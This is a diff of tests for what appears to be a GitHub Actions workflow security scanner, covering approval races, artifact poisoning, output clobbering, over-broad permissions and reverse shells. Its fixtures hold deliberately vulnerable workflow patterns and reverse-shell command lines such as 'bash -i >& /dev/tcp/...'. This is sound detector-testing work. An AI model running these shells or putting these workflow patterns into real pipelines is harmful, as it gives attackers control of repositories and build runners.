@@ -247,3 +247,140 @@ describe('names of files on lines of their own', () => {
     expect(await found('github-env', text)).toHaveLength(count);
   });
 });
+
+describe('a race for a checkout', () => {
+  const race = (on: string, condition: string, input: string, behind: string): string =>
+    job(on, `      - uses: actions/checkout@v4\n        with:\n${input}${behind}`, `    if: ${condition}\n`);
+  const member = "github.event.comment.author_association == 'MEMBER'";
+  const pull = '          ref: refs/pull/${{ github.event.issue.number }}/head\n';
+
+  test.each([
+    ['runs a script of it', '      - run: make\n', 'high'],
+    ['an action of somebody else’s may run it', '      - uses: a/b@v1\n', 'high'],
+    ['an image may run it', '      - uses: docker://a/b\n', 'high'],
+    ['a script of another language may run it', '      - shell: python\n        run: import theirs\n', 'high'],
+    ['only an action of GitHub’s behind it', '      - uses: actions/setup-node@v4\n', 'medium'],
+    ['only words behind it', '      - run: git push origin HEAD:theirs\n', 'medium'],
+    ['nothing behind it', '', 'medium'],
+  ])('%s', async (_, behind, severity) => {
+    const [told] = await found('approval-race', race('issue_comment', member, pull, behind));
+    expect(told).toMatch(new RegExp(`^${severity}: `));
+  });
+
+  test('what runs before the checkout runs none of it', async () => {
+    const text = race('issue_comment', member, pull, '').replace('    steps:\n', '    steps:\n      - run: make\n');
+    expect(await found('approval-race', text)).toEqual([expect.stringMatching(/^medium: /)]);
+  });
+
+  const labels = "contains(github.event.pull_request.labels.*.name, 'ok')";
+  const fork = '          repository: ${{ github.event.pull_request.head.repo.full_name }}\n';
+  test.each([
+    ['the commit of the event, from whichever repository', `${fork}          ref: \${{ github.event.pull_request.head.sha }}\n`, 0],
+    ['a branch of theirs', `${fork}          ref: \${{ github.event.pull_request.head.ref }}\n`, 1],
+    ['a text around the commit', `${fork}          ref: x\${{ github.event.pull_request.head.sha }}\n`, 1],
+    ['whatever their first branch holds', fork, 1],
+  ])('by a label: %s', async (_, input, count) => {
+    const text = race('{ pull_request_target: { types: [labeled] } }', labels, input, '      - run: make\n');
+    expect(await found('approval-race', text)).toHaveLength(count);
+  });
+});
+
+describe('artifacts that are found by an expression', () => {
+  const takes = (input: string, run: string): string =>
+    job(
+      "{ workflow_run: { workflows: ['x'] } }\npermissions: { contents: write }",
+      `      - uses: dawidd6/action-download-artifact@v6\n        with:\n          run_id: \${{ github.event.workflow_run.id }}\n${input}      - run: ${run}\n`,
+    );
+  const byName = '          name: "(diff-)?pages.*"\n          name_is_regexp: true\n';
+  test.each([
+    ['a program that reads settings beside the folder', byName, 'uvx show upload pages', 0],
+    ['a script in the folder', byName, './pages/run.sh', 1],
+    ['a script in the folder below another', `${byName}          path: out\n`, './out/pages/run.sh', 1],
+    ['all in one folder', `${byName}          merge_multiple: true\n`, 'uvx show upload pages', 1],
+    ['one artifact by its name', '          name: pages\n', 'uvx show upload pages', 1],
+    ['any name at all', '          name: ".*"\n          name_is_regexp: true\n', 'uvx show upload pages', 1],
+    ['one of two names', '          name: "pages|other"\n          name_is_regexp: true\n', 'uvx show upload pages', 1],
+  ])('%s', async (_, input, run, count) => {
+    expect(await found('artifact-poisoning', takes(input, run))).toHaveLength(count);
+  });
+});
+
+describe('an output that others’ lines could set', () => {
+  const writes = (run: string, reads: string, id = 'id: number'): string =>
+    job(
+      "{ workflow_run: { workflows: ['x'] } }\npermissions: { contents: write }",
+      `      - uses: actions/download-artifact@v4\n        with: { name: n, run-id: 1, path: n }\n      - ${id}\n        run: ${run}\n      - env: { A: "${reads}" }\n        run: echo "$A"\n`,
+    );
+  const plain = 'echo "pr=$(cat n/pr)" >> "$GITHUB_OUTPUT"';
+  const own = '${{ steps.number.outputs.pr }}';
+  test.each([
+    ['no other is read', plain, own, 'low'],
+    ['none is read', plain, '', 'low'],
+    ['another is read', plain, '${{ steps.number.outputs.ok }}', 'high'],
+    ['one of each', plain, `${own} \${{ steps.NUMBER.outputs.ok }}`, 'high'],
+    ['all are read', plain, '${{ toJSON(steps.number.outputs) }}', 'high'],
+    ['all of all steps are read', plain, '${{ toJSON(steps) }}', 'high'],
+    ['a step is found by an expression', plain, '${{ steps[env.B].outputs.ok }}', 'high'],
+    ['a test that may look at the first line', `grep -q '^[0-9]' n/pr && ${plain}`, own, 'high'],
+    ['the output of another step', plain, '${{ steps.other.outputs.ok }}', 'low'],
+  ])('%s', async (_, run, reads, severity) => {
+    const [told] = await found('output-clobbering', writes(run, reads));
+    expect(told).toMatch(new RegExp(`^${severity}: `));
+  });
+
+  test('a step without an id gives out nothing', async () => {
+    expect(await found('output-clobbering', writes(plain, '', 'name: n'))).toEqual([expect.stringMatching(/^low: /)]);
+  });
+});
+
+describe('merges that ask who acted last', () => {
+  const merge = (condition: string): string => job('pull_request_target', '      - run: gh pr merge --auto\n', `    if: ${condition}\n`);
+  test.each([
+    ["github.actor == 'octocat'", 'medium'],
+    ['contains(fromJSON(\'["octocat", "hubot"]\'), github.actor)', 'medium'],
+    ['contains(fromJSON(\'["octocat", "a[bot]"]\'), github.actor)', 'high'],
+    ["github.actor == 'dependabot[bot]'", 'high'],
+    ["github.actor != 'octocat'", 'high'],
+  ])('%s', async (condition, severity) => {
+    const [told] = await found('confused-deputy-merge', merge(condition));
+    expect(told).toMatch(new RegExp(`^${severity}: `));
+  });
+});
+
+describe('how many jobs have a right', () => {
+  const jobs = (...permissions: readonly string[]): string =>
+    `on: push\npermissions: { contents: write }\njobs:\n${permissions
+      .map((own, i) => `  j${i}:\n${own}    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n`)
+      .join('')}`;
+  const reads = '    permissions: { contents: read }\n';
+  const writesToo = '    permissions: { contents: write }\n';
+  test.each([
+    [['', ''], /^high: `contents: write` is given to all 2 jobs: the token of each/],
+    [['', '', reads], /^high: `contents: write` is given to 2 of 3 jobs: the token of each/],
+    [['', '', writesToo], /^high: `contents: write` is given to all 3 jobs/],
+    [['', reads], /^low: `contents: write` is given to the whole workflow, and one of 2 jobs has it: its token/],
+    [[reads, reads], /^low: `contents: write` is given to the whole workflow, and no job has it/],
+  ])('%j', async (permissions, message) => {
+    expect(await found('excessive-permissions', jobs(...permissions))).toContainEqual(expect.stringMatching(message));
+  });
+});
+
+test.each([
+  ['git merge-tree --write-tree HEAD FETCH_HEAD', 0],
+  ['git merge-base HEAD FETCH_HEAD', 0],
+  ['git merge FETCH_HEAD', 1],
+  ['git -c a=b merge FETCH_HEAD', 1],
+])('a pull request that is fetched, and %s behind it', async (command, count) => {
+  const fetched = `      - run: |\n          git fetch origin "pull/\${{ github.event.number }}/head"\n          ${command}\n      - run: make\n`;
+  expect(await found('untrusted-checkout-execution', job('pull_request_target', fetched))).toHaveLength(count);
+});
+
+test.each([
+  ['(exec 3<>/dev/tcp/127.0.0.1/$port) 2>/dev/null', 0],
+  ['(exec 3<>/dev/tcp/localhost/80) 2>/dev/null', 0],
+  ['bash -c "exec 3<>/dev/tcp/198.51.100.7/4444"', 1],
+  ['(exec 3<>/dev/tcp/localhost.test/80) 2>/dev/null', 1],
+  ['bash -i >& /dev/tcp/127.0.0.1/4444 0>&1', 1],
+])('a shell that is connected: %s', async (command, count) => {
+  expect(await found('reverse-shell', job('push', `      - run: '${command}'\n`))).toHaveLength(count);
+});
